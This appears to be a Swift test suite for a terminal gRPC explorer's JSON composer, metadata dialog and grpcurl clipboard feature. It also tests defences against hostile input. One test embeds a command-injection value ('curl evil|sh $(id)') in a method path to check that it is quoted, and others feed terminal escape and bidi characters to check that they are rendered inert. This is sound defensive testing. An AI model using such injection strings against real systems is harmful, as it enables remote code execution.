import Foundation
import Testing
import Wire
import WireFormat

@testable import Explorer

/// The JSON composer: a template of the input type, checked as it is typed, sent with Ctrl-S/F5,
/// undone with Ctrl-Z, kept per method.
@Suite struct ComposerTests {
  static func kitchenSink(width: Int = 80, height: Int = 24) throws -> Scenario {
    var scenario = Scenario(width: width, height: height)
    _ = scenario.state.update(.catalog(try SchemaAsDataTests.kitchenSinkCatalog()))
    return scenario
  }

  static let unary = "/kitchensink.KitchenSink/Unary"

  @Test func aNestedTypeOpensOnItsTemplateWhichIsSentAsItIs() throws {
    var scenario = try Self.kitchenSink()
    scenario.press(.enter)
    #expect(scenario.state.composesJSON && scenario.state.focus == .input)
    let text = scenario.state.composer.text
    #expect(text == scenario.state.catalog.template(for: "kitchensink.Order"))
    #expect(text.contains(#""items": []"#), "repeated: []")
    #expect(text.contains(#""tier": "TIER_UNSPECIFIED""#), "nested one level, enum by name")
    #expect(text.contains(#""address": {}"#), "two levels down: {}")
    #expect(text.contains(#""placedAt": "1970-01-01T00:00:00Z""#), "Timestamp in its JSON form")
    #expect(text.contains(#""labels": {}"#), "a map: {}")
    let screen = scenario.text
    #expect(screen.contains("Request · kitchensink.Order · 1:1"), "\(screen)")
    #expect(screen.contains("Unary ▸ ✓ kitchensink.Order · Ctrl-S/F5 sends"))
    #expect(screen.contains(#" 2    "id": "","#), "numbered lines")
    #expect(screen.contains("Ctrl-S/F5 send  Ctrl-E $EDITOR  Ctrl-Z undo"), "the hint bar")
    // Enter is a new line there, not a send.
    #expect(scenario.press(.enter).isEmpty)
    #expect(scenario.state.composer.editor.lines.count == text.split(separator: "\n").count + 1)
    scenario.press(.control("z"))
    #expect(scenario.state.composer.text == text)
    let draft = RequestDraft(typeName: "kitchensink.Order", json: text)
    #expect(
      scenario.press(.control("s"))
        == [.startCall(id: 1, path: Self.unary, request: draft, halfClose: true)])
    #expect(scenario.state.composer.text == text, "the request stays, to send again")
    #expect(
      scenario.press(.function(5))
        == [.startCall(id: 2, path: Self.unary, request: draft, halfClose: true)])
  }

  @Test func everyTemplateOfTheKitchenSinkDecodesAsItsType() throws {
    let catalog = try SchemaAsDataTests.kitchenSinkCatalog()
    var checked = 0
    for message in catalog.messageList where !message.isMapEntry {
      let template = try #require(catalog.template(for: message.fullName))
      #expect(throws: Never.self, "\(message.fullName): \(template)") {
        _ = try catalog.decodeJSON(template, as: message.fullName)
      }
      checked += 1
    }
    #expect(checked > 20)
    let choice = try #require(catalog.template(for: "kitchensink.Choice"))
    let oneof = try #require(catalog.message("kitchensink.Choice")?.oneofs.first)
    #expect(oneof.fields.count > 1)
    let members = oneof.fields.map { catalog.message("kitchensink.Choice")!.fields[$0].jsonName }
    #expect(members.filter { choice.contains("\"\($0)\"") }.count == 1, "one oneof member")
  }

  @Test func aRequestThatDoesNotFitIsMarkedRefusedAndUndone() throws {
    var scenario = try Self.kitchenSink()
    scenario.press(.enter)
    let template = scenario.state.composer.text
    // Line 2 is `  "id": "",`: the value becomes 12x.
    scenario.press(.down, .end, .backspace, .backspace, .backspace)
    scenario.type("12x,")
    guard case .invalid(let why, let line) = scenario.state.composer.check else {
      Issue.record("still valid: \(scenario.state.composer.text)")
      return
    }
    #expect(line == 2, "\(why)")
    #expect(scenario.text.contains(" 2✗   \"id\": 12x,"), "\(scenario.text)")
    #expect(scenario.text.contains("Unary ▸ ✗ (line 2, column"), "\(scenario.text)")
    scenario.press(.down, .down)
    #expect(scenario.press(.control("s")).isEmpty, "nothing is sent")
    #expect(scenario.state.notice?.hasPrefix("not sent: (line 2, column") == true)
    #expect(scenario.state.composer.editor.cursor.line == 1, "the cursor goes to the error")
    #expect(scenario.state.transcript.calls.isEmpty)
    // A value of the wrong kind names its JSON path.
    scenario.press(.end, .backspace, .backspace, .backspace, .backspace)
    scenario.type("12,")
    #expect(
      scenario.state.composer.check
        == .invalid("id (line 2, column 9): expected a string, got 12", line: 2))
    // Typing is one undo step, each deletion another.
    scenario.press(.control("z"))
    #expect(scenario.state.composer.text.contains("\"id\": \n"))
    scenario.press(.control("z"), .control("z"), .control("z"), .control("z"))
    scenario.press(.control("z"), .control("z"), .control("z"), .control("z"))
    #expect(scenario.state.composer.text == template)
    #expect(scenario.state.composer.isValid)
  }

  @Test func eachMethodKeepsItsDraftAndHistoryGivesTheLastRequest() throws {
    var scenario = try Self.kitchenSink()
    scenario.press(.enter)
    scenario.state.composer.fill(with: #"{"id": "kept"}"#)
    scenario.press(.backTab, .down)
    #expect(scenario.state.tree.current?.name == "ServerStream")
    scenario.press(.enter)
    #expect(!scenario.state.composer.text.contains("kept"), "another method, its own text")
    scenario.press(.backTab, .up, .enter)
    #expect(scenario.state.composer.text == "{\n  \"id\": \"kept\"\n}")

    // A new session: history's last request of a method is its draft.
    var later = try Self.kitchenSink()
    var old = CallRecord(
      id: 1, method: "Fail", path: "/kitchensink.KitchenSink/Fail", kind: .unary, startNanos: 0)
    old.append(
      RequestDraft(typeName: "kitchensink.Order", json: #"{"id":"from history"}"#), shown: "")
    _ = later.state.update(.historyLoaded([old], skipped: 0, total: 1))
    later.press(.down, .down, .down, .down)
    #expect(later.state.tree.current?.name == "Fail")
    later.press(.enter)
    #expect(later.state.composer.text == "{\n  \"id\": \"from history\"\n}")
  }

  @Test func aClientStreamSendsEachMessageOnTheOpenStreamAndCountsThem() throws {
    var scenario = try Self.kitchenSink()
    scenario.press(.down, .down, .down)
    #expect(scenario.state.tree.current?.name == "Bidi")
    scenario.press(.enter)
    scenario.state.composer.fill(with: #"{"id": "1"}"#)
    let first = RequestDraft(typeName: "kitchensink.Order", json: "{\n  \"id\": \"1\"\n}")
    #expect(
      scenario.press(.control("s"))
        == [
          .startCall(
            id: 1, path: "/kitchensink.KitchenSink/Bidi", request: first, halfClose: false)
        ])
    #expect(scenario.text.contains("Bidi (stream open, 1 sent, Ctrl-D ends it) ▸ ✓"))
    #expect(scenario.text.contains("stream open · Ctrl-S/F5 sends · Ctrl-D ends"))
    #expect(scenario.press(.control("s")) == [.send(id: 1, request: first)])
    #expect(scenario.text.contains("(stream open, 2 sent, Ctrl-D ends it)"))
    #expect(scenario.press(.control("d")) == [.finishSending(id: 1)])
  }

  @Test func ctrlEHandsTheTextToTheEditorAndTakesBackWhatItLeft() throws {
    var scenario = try Self.kitchenSink()
    scenario.press(.enter)
    let template = scenario.state.composer.text
    #expect(scenario.press(.control("e")) == [.openEditor(template)])
    _ = scenario.state.update(.edited(#"{"id":"from the editor","items":[{"sku":"X"}]}"#))
    #expect(scenario.state.composer.text.contains(#""id": "from the editor""#))
    #expect(scenario.state.composer.isValid)
    _ = scenario.state.update(.edited("{\"id\": 1"))
    #expect(!scenario.state.composer.isValid, "what comes back is checked")
    scenario.press(.control("z"))
    #expect(scenario.state.composer.text.contains("from the editor"), "and can be undone")
    // In the one-line prompt Ctrl-E stays the end of the line.
    var greeter = Scenario()
    greeter.press(.enter)
    greeter.type("Ada")
    greeter.press(.home)
    #expect(greeter.press(.control("e")).isEmpty)
    #expect(greeter.state.prompt.editor.cursor == 3)
  }

  @Test func aPasteKeepsItsLinesAndEditPutsACallsRequestBack() throws {
    var scenario = try Self.kitchenSink()
    scenario.press(.enter)
    scenario.state.composer.fill(with: "")
    _ = scenario.state.update(.paste("{\n  \"id\": \"pasted\"\n}"))
    scenario.state.settle()
    #expect(scenario.state.composer.editor.lines.count == 3)
    #expect(scenario.state.composer.isValid)
    let draft = scenario.state.composer.draft
    scenario.press(.control("s"))
    scenario.state.composer.fill(with: "{}")
    scenario.press(.tab, .character("e"))
    #expect(scenario.state.focus == .input)
    #expect(scenario.state.composer.draft == draft)
  }

  @Test func aThousandLineRequestScrollsToKeepTheCursorInSight() throws {
    var scenario = try Self.kitchenSink()
    scenario.press(.enter)
    let items = (1...1000).map { #"    {"sku": "S\#($0)"}"# }.joined(separator: ",\n")
    scenario.state.composer.fill(with: "{\n  \"items\": [\n\(items)\n  ]\n}")
    #expect(scenario.state.composer.isValid)
    scenario.press(.pageDown, .pageDown, .pageDown)
    let line = scenario.state.composer.editor.cursor.line + 1
    #expect(line > 10)
    let screen = scenario.state.render()
    #expect(screen.cursor != nil)
    #expect(scenario.text.contains(String(format: "%4d", line)), "\(scenario.text)")
    scenario.press(.control("r"))
    #expect(
      scenario.state.composer.text == scenario.state.catalog.template(for: "kitchensink.Order"))
  }
}

/// The metadata dialog (m / F6): headers and a deadline for every call to the target, checked,
/// remembered, shown with each call (h) and in its grpcurl command.
@Suite struct RequestSettingsTests {
  @Test func headersAndADeadlineAreCheckedSavedAndSentWithEachCall() throws {
    var scenario = Scenario()
    scenario.press(.character("m"))
    guard case .settings = scenario.state.overlay else {
      Issue.record("no dialog: \(String(describing: scenario.state.overlay))")
      return
    }
    #expect(scenario.text.contains("Metadata and deadline for 127.0.0.1:50051"))
    scenario.press(.tab)
    scenario.type("2.5")
    scenario.press(.enter)
    scenario.type("x-user: Ada")
    scenario.press(.enter)
    scenario.type("grpc-timeout: 1S")
    #expect(scenario.press(.control("s")).isEmpty, "a reserved name is refused")
    #expect(scenario.text.contains("line 2: header grpc-timeout is reserved for gRPC itself"))
    for _ in 0..<"grpc-timeout: 1S".count { scenario.press(.backspace) }
    scenario.type("trace-bin: AAEC")
    let settings = RequestSettings(
      headers: [.init(name: "x-user", value: "Ada"), .init(name: "trace-bin", value: "AAEC")],
      deadline: "2.5")
    #expect(
      scenario.press(.control("s"))
        == [.saveRequestSettings(target: "127.0.0.1:50051", settings)])
    #expect(scenario.state.overlay == nil)
    #expect(scenario.text.contains("not connected · 2 headers · deadline 2.5 s │"))

    scenario.press(.enter)
    scenario.type("Ada")
    scenario.press(.enter)
    #expect(scenario.state.transcript.calls[0].sentHeaders == ["x-user: Ada", "trace-bin: AAEC"])
    _ = scenario.state.update(
      .call(id: 1, .trailers(["grpc-status": "0", "echo-x-user": "Ada"])))
    scenario.press(.tab, .character("h"))
    #expect(scenario.state.overlay == .headers(callID: 1))
    let text = scenario.state.headersText(of: scenario.state.transcript.calls[0])
    #expect(text.contains("  x-user: Ada\n  trace-bin: AAEC\n  deadline 2.5 s (grpc-timeout)"))
    #expect(text.contains("Trailers:\n  grpc-status: 0\n  echo-x-user: Ada"), "\(text)")
    scenario.press(.escape, .character("g"))
    #expect(
      scenario.state.overlay
        == .grpcurl(
          #"grpcurl -plaintext -H 'x-user: Ada' -H 'trace-bin: AAEC' -max-time '2.5' -d '{"name":"Ada"}' 127.0.0.1:50051 helloworld.Greeter/SayHello"#
        ))
  }

  @Test func aBadDeadlineOrBase64IsSaidAndTheDialogStays() {
    var scenario = Scenario()
    scenario.press(.function(6), .backTab)
    scenario.type("soon")
    #expect(scenario.press(.control("s")).isEmpty)
    #expect(scenario.text.contains(#"deadline takes a number of seconds, not "soon""#))
    scenario.press(.control("u"), .tab)
    scenario.type("key-bin: not base64!")
    #expect(scenario.press(.control("s")).isEmpty)
    #expect(scenario.text.contains("key-bin is a binary header: its value must be base64"))
    scenario.press(.escape)
    #expect(scenario.state.overlay == nil && scenario.state.title.requestSettings.isEmpty)
  }
}

/// `g` copies the grpcurl command with OSC 52, our own text only.
@Suite struct ClipboardTests {
  @Test func theCommandIsCopiedUnlessItHoldsControlCharacters() {
    var scenario = Scenario()
    scenario.press(.enter)
    scenario.type("Ada")
    scenario.press(.enter)
    let command =
      #"grpcurl -plaintext -d '{"name":"Ada"}' 127.0.0.1:50051 helloworld.Greeter/SayHello"#
    #expect(scenario.press(.tab, .character("g")) == [.copyToClipboard(command)])
    #expect(scenario.state.notice == "copied with OSC 52 (if the terminal allows it)")

    // A request read back from a history line as raw text: shown, never copied.
    scenario.press(.escape)
    var old = CallRecord(
      id: 9, method: "SayHello", path: "/helloworld.Greeter/SayHello", kind: .unary, startNanos: 0)
    old.drafts = [
      RequestDraft(typeName: "helloworld.HelloRequest", json: "{\"name\":\"\u{1B}[2J\"}")
    ]
    _ = scenario.state.update(.historyLoaded([old], skipped: 0, total: 1))
    scenario.press(.up)
    #expect(scenario.state.transcript.shownCallIndex == 0)
    #expect(scenario.press(.character("g")).isEmpty)
    #expect(scenario.state.notice == "not copied: the command holds control characters")
  }
}

extension ComposerTests {
  /// A bidi or control character in the request is drawn inert (`⟨RLO⟩`, five cells), and the
  /// cursor after it is placed after what is drawn.
  @Test func theCursorFollowsWhatIsDrawnNotTheCharacterCount() throws {
    var scenario = try Self.kitchenSink()
    scenario.press(.enter)
    _ = scenario.state.update(.edited("\u{202E}x"))
    scenario.press(.end)
    let screen = scenario.state.render()
    let row = try #require(screen.cursor?.y)
    var line = ""
    for x in 0..<screen.grid.width { line += screen.grid[x, row].text }
    #expect(line.hasPrefix("│1✗ ⟨RLO⟩x"), "not JSON, so marked: \(line)")
    #expect(screen.cursor?.x == 1 + 3 + 5 + 1, "after ⟨RLO⟩ and x")
  }
}

extension ComposerTests {
  /// The composer and the tree through every size from 1x1 to 130x50 and back, the cursor
  /// always on the grid and every cell inert.
  @Test func aResizeStormWithTheComposerOpenNeverLeavesTheGrid() throws {
    var scenario = try Self.kitchenSink()
    scenario.press(.enter)
    _ = scenario.state.update(
      .edited(
        "{\"id\": \"\u{1B}[2J\u{202E}\", \"items\": [\n" + String(repeating: "{},\n", count: 50)
          + "{}]}"))
    for (width, height) in (1...130).map({ ($0, $0 * 50 / 130) })
      + (1...130).reversed().map({ ($0, 10) })
    {
      _ = scenario.state.update(.resize(width: width, height: height))
      let screen = scenario.state.render()
      #expect(screen.grid.width == width && screen.grid.height == height)
      if let cursor = screen.cursor {
        #expect(cursor.x < width && cursor.y < height, "\(width)x\(height)")
      }
      for cell in screen.grid.cells { #expect(InertText.isInert(cell.text)) }
    }
  }
}

extension RequestSettingsTests {
  @Test func aNewTargetStartsWithoutTheOldTargetsHeaders() {
    var scenario = Scenario()
    _ = scenario.state.update(
      .requestSettings(RequestSettings(headers: [.init(name: "authorization", value: "Bearer t")])))
    scenario.press(.function(4), .control("u"))
    scenario.type("127.0.0.1:50099")
    #expect(scenario.press(.enter) == [.setTarget("127.0.0.1:50099")])
    #expect(scenario.state.title.requestSettings.isEmpty)
  }

  @Test func headersTheClientSetsOrHTTP2ForbidsAndNonDecimalDeadlinesAreRefused() {
    for name in ["te", "content-type", "connection", "host", "grpc-timeout"] {
      guard case .failure = MetadataRules.header("\(name): x") else {
        Issue.record("\(name) was taken")
        continue
      }
    }
    for text in ["0x10", "0X1p3", "inf", "nan", "", "1,5"] {
      guard case .failure = MetadataRules.deadline(text) else {
        Issue.record("deadline \(text) was taken")
        continue
      }
    }
    #expect((try? MetadataRules.deadline("2.5").get()) == .milliseconds(2500))
  }

  /// A long value (a JWT) is cut to the box, the cursor's line shifted so the cursor is in it.
  @Test func aLongHeaderKeepsTheCursorInTheBox() {
    var scenario = Scenario()
    scenario.press(.character("m"))
    scenario.type("authorization: Bearer " + String(repeating: "abcdefghij", count: 30))
    let screen = scenario.state.render()
    let cursor = screen.cursor
    #expect(cursor != nil, "the cursor is on screen")
    if let cursor {
      #expect(cursor.x < 79)
      var line = ""
      for x in 0..<80 { line += screen.grid[x, cursor.y].text }
      #expect(line.contains("abcdefghij"), "\(line)")
    }
  }
}

extension ClipboardTests {
  @Test func aHostileMethodNameIsQuotedInTheCommand() {
    var scenario = Scenario()
    // A schema without the method, then the method alone in the tree.
    _ = scenario.state.update(.catalog(Catalog()))
    scenario.state.tree.replace(methods: [
      ExplorerState.Method(name: "x", path: "/svc/x;curl evil|sh $(id)", kind: .unary)
    ])
    var call = CallRecord(
      id: 1, method: "x", path: "/svc/x;curl evil|sh $(id)", kind: .unary, startNanos: 0)
    call.drafts = [RequestDraft(typeName: "t", json: "{}")]
    _ = scenario.state.update(.historyLoaded([call], skipped: 0, total: 1))
    #expect(
      scenario.state.grpcurlCommand(for: scenario.state.transcript.calls[0])
        == "grpcurl -plaintext -d '{}' 127.0.0.1:50051 'svc/x;curl evil|sh $(id)'")
  }
}

extension ComposerTests {
  @Test func aTurnOneRowOverTheFoldIsShownAndAWholeOneIsCapped() {
    let nine = (1...9).map { "line \($0)" }.joined(separator: "\n")
    #expect(Transcript.bubble("◂ ", nine, width: 40, whole: false).count == 9)
    let ten = nine + "\nline 10"
    let folded = Transcript.bubble("◂ ", ten, width: 40, whole: false)
    #expect(folded.count == 9 && folded.last?.folded == true)
    let huge = String(repeating: "x\n", count: 5000)
    let whole = Transcript.bubble("◂ ", huge, width: 40, whole: true)
    #expect(whole.count == Transcript.wholeRows + 1)
    #expect(whole.last?.text.hasPrefix("⋯ the first 2000 rows") == true)
  }
}
